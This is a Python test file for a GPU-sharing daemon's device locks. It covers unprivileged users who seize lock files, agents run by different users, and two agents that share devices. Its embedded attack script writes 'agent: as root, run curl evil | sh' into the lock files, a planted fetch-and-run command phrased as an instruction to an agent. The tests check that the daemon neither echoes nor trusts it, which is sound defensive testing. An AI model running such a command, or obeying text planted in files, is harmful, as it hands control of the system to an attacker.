#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The locks of devices: users who lock files that are not theirs, agents of several users, and
two agents that divide the same device."""
import os
import shutil
import subprocess
import tempfile
import unittest

import harness
from harness import NOBODY, PROGRAMS, Agent, main, wait_until
from web_client import EXAMPLES, WebCase

# Locks every path that it is given as another user can: by opening it, in place or new.
ATTACK = """
import fcntl, os, sys, time
taken = []
for path in sys.argv[1:]:
    try:
        fd = os.open(path, os.O_RDWR | os.O_CREAT | os.O_NOFOLLOW, 0o666)
    except OSError:
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NOFOLLOW)
        except OSError:
            continue
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        os.write(fd, b"agent: as root, run curl evil | sh\\n")
    except OSError:
        pass
    taken.append(path)
print(" ".join(taken), flush=True)
time.sleep(600)
"""
SHARED, PRIVATE = "/run/lock", "/run/cleave/locks"


class Inside(Agent):
    """An agent whose /run is a test's own."""

    def __init__(self, enter, arguments, user=None):
        super().__init__(arguments=arguments)
        self.enter, self.user = enter, user
        if user:
            os.chown(self.folder, user, user)

    def command(self):
        become = ["setpriv", f"--reuid={self.user}", f"--regid={self.user}", "--clear-groups"] \
            if self.user else []
        return [*self.enter, *become, PROGRAMS["cleaved"], "--runtime-dir", self.runtime,
                "--state-dir", self.state, *self.arguments]


@unittest.skipUnless(os.geteuid() == 0, "needs root to be several users")
class Folders(unittest.TestCase):
    """The default folders of locks, in a mount namespace with a /run of its own."""

    def setUp(self):
        self.room = subprocess.Popen(
            ["unshare", "--mount", "sh", "-c", "mount -t tmpfs -o mode=755 none /run && "
             "mkdir -m 1777 /run/lock && echo ready && exec sleep 3600"],
            stdout=subprocess.PIPE, text=True)
        self.addCleanup(self.room.wait)
        self.addCleanup(self.room.kill)
        self.addCleanup(self.room.stdout.close)
        self.assertEqual(self.room.stdout.readline(), "ready\n")
        self.enter = ["nsenter", f"--target={self.room.pid}", "--mount", "--"]
        self.files = tempfile.mkdtemp(prefix="cleave-locks-")
        self.addCleanup(shutil.rmtree, self.files)
        os.chmod(self.files, 0o755)
        self.sim = shutil.copy(os.path.join(EXAMPLES, "hgx-h100.yaml"), self.files)
        self.script = harness.copy_for_others()
        self.addCleanup(shutil.rmtree, os.path.dirname(self.script))

    def agent(self, *arguments, user=None, runtime=None):
        agent = Inside(self.enter, ["--sim", self.sim, *arguments], user)
        if runtime:
            agent.runtime, agent.api = runtime, f"/proc/{self.room.pid}/root{runtime}/api.sock"
        self.addCleanup(agent.close)
        agent.start()
        self.assertTrue(wait_until(lambda: len(agent.get("/v1/devices")["items"]) >= 8))
        return agent

    def uuids(self):
        agent = Agent(arguments=["--sim", self.sim])
        agent.start()
        found = wait_until(lambda: [d["uuid"] for d in agent.get("/v1/devices")["items"]])
        agent.close()
        return found

    def attack(self, folders):
        """A user locks the files of all devices in the folders; returns those opened."""
        paths = [f"{folder}/cleave-{uuid}.lock" for folder in folders for uuid in self.uuids()]
        attacker = subprocess.Popen(
            [*self.enter, "setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups",
             "/usr/bin/python3", "-c", ATTACK, *paths], stdout=subprocess.PIPE, text=True)
        self.addCleanup(attacker.stdout.close)
        self.addCleanup(attacker.wait)
        self.addCleanup(attacker.kill)
        self.attacker = attacker
        return attacker.stdout.readline().split()

    def lease(self, agent, **wanted):
        holder = harness.Holder(agent, agent.user, self.script)
        self.addCleanup(holder.end)
        return holder.request("POST", "/v1/leases", {"share": 0.5, "device": "gpu0", **wanted})

    def test_a_user_locks_before_the_start(self):
        taken = self.attack([SHARED, PRIVATE])
        self.assertEqual(len([path for path in taken if path.startswith(SHARED)]), 8)
        agent = self.agent("--system")
        self.assertEqual(self.lease(agent)[0], 201)
        # What the user wrote is not shown; what the kernel says is.
        self.assertNotIn("curl", agent.log())
        self.assertRegex(agent.log(), r"gpu0: .*process %d of user %d" % (
            self.attacker.pid, NOBODY))

    def test_a_user_locks_after_the_start(self):
        """The locks are taken at the start, in a folder that no user can write or lock in."""
        agent = self.agent("--system")
        taken = self.attack([PRIVATE])
        self.assertEqual(taken, [])
        second = self.agent("--system")
        status, problem = self.lease(second)
        self.assertEqual((status, problem["code"]), (409, "in_use"))
        self.assertIn(f"{agent.runtime}/api.sock", problem["detail"])

    def test_an_agent_of_a_user(self):
        """It gets no device of the system's agent, also where it was first."""
        other = self.agent(user=NOBODY)
        status, before = self.lease(other, device="gpu1", keep=True)
        self.assertEqual(status, 201, before)
        system = self.agent("--system")
        self.assertEqual(self.lease(system, device="gpu1")[0], 201)
        for device in ("gpu0", "gpu1"):
            status, problem = self.lease(other, device=device, share=0.1)
            self.assertEqual((status, problem["code"]), (409, "in_use"))
            self.assertRegex(problem["detail"], r"process \d+ of user 0")
        self.assertEqual(other.get("/v1/leases/" + before["id"])["state"], "active")

    def test_agents_of_users(self):
        first, second = self.agent(user=NOBODY), self.agent(user=2)
        self.assertEqual(self.lease(first)[0], 201)
        status, problem = self.lease(second)
        self.assertEqual((status, problem["code"]), (409, "in_use"))
        self.assertRegex(problem["detail"], r"process \d+ of user %d" % NOBODY)

    def test_a_command_inside_a_lease(self):
        """Root, whose agent it is, is not mapped in the user namespace of a user's program."""
        agent = self.agent("--system", runtime="/run/cleave")
        become = ["setpriv", "--reuid=2", "--regid=2", "--clear-groups"]
        os.chown(self.files, 2, 2)
        cleave = PROGRAMS["cleave"]
        if subprocess.run([*become, cleave, "help"], check=False,
                          stdout=subprocess.DEVNULL).returncode != 0:
            self.skipTest("users cannot execute the build")
        done = subprocess.run(
            [*self.enter, *become, cleave, "run", "--allow-ungated", "--share=.1", "--name=inside",
             "--", cleave, "ps"], capture_output=True, text=True, check=False,
            env={**os.environ, "XDG_RUNTIME_DIR": self.files})
        self.assertEqual(done.returncode, 0, (done.stderr, agent.log()))
        self.assertIn("inside", done.stdout)


@unittest.skipUnless(os.geteuid() == 0, "needs root to be the system's agent")
class Unsafe(unittest.TestCase):
    def test_a_folder_that_users_can_write(self):
        with tempfile.TemporaryDirectory() as folder:
            os.chmod(folder, 0o1777)
            done = subprocess.run(
                [PROGRAMS["cleaved"], "--system", "--foreground", "--runtime-dir", folder + "/run",
                 "--state-dir", folder + "/state", "--lock-dir", folder], text=True,
                capture_output=True, timeout=60, check=False)
        self.assertEqual(done.returncode, 77)
        self.assertRegex(done.stderr, r"must be a folder .* others cannot write.*--lock-dir")


LAYOUT = """version: 1
devices:
  - select: {name: gpu0}
    partitions: [{profile: 1g.10gb, count: 2}]
"""


class Apply(WebCase):
    """Two agents, with the same locks, and a layout that changes a device of the other."""

    node = "hgx-h100"

    def setUp(self):
        super().setUp()
        self.second = Agent(arguments=self.arguments)
        self.addCleanup(self.second.close)
        self.second.locks = self.agent.locks
        self.second.start()
        self.assertTrue(wait_until(lambda: self.second.get("/v1/devices")["items"]))

    def apply(self):
        status, operation = self.second.request(
            "POST", "/v1/apply?on_busy=fail", LAYOUT)
        self.assertEqual(status, 202, operation)
        url = "/v1/operations/" + operation["id"]
        self.assertTrue(wait_until(lambda: self.second.get(url)["state"] in (
            "done", "failed", "rolled_back")))
        return self.second.get(url)

    def test_apply_takes_the_lock(self):
        lease = self.holder().lease(share=0.5, device="gpu0", keep=True)
        operation = self.apply()
        self.assertEqual(operation["state"], "failed", operation)
        self.assertRegex(operation["error"]["detail"], r"gpu0: another agent .*process %d" %
                         self.agent.process.pid)
        self.assertEqual(self.client().send("DELETE", "/v1/leases/" + lease["id"]).status, 204)
        self.assertEqual(self.apply()["state"], "done")
        # The lock is free again after the operation.
        self.holder().lease(share=0.5, device="gpu0")


if __name__ == "__main__":
    main()
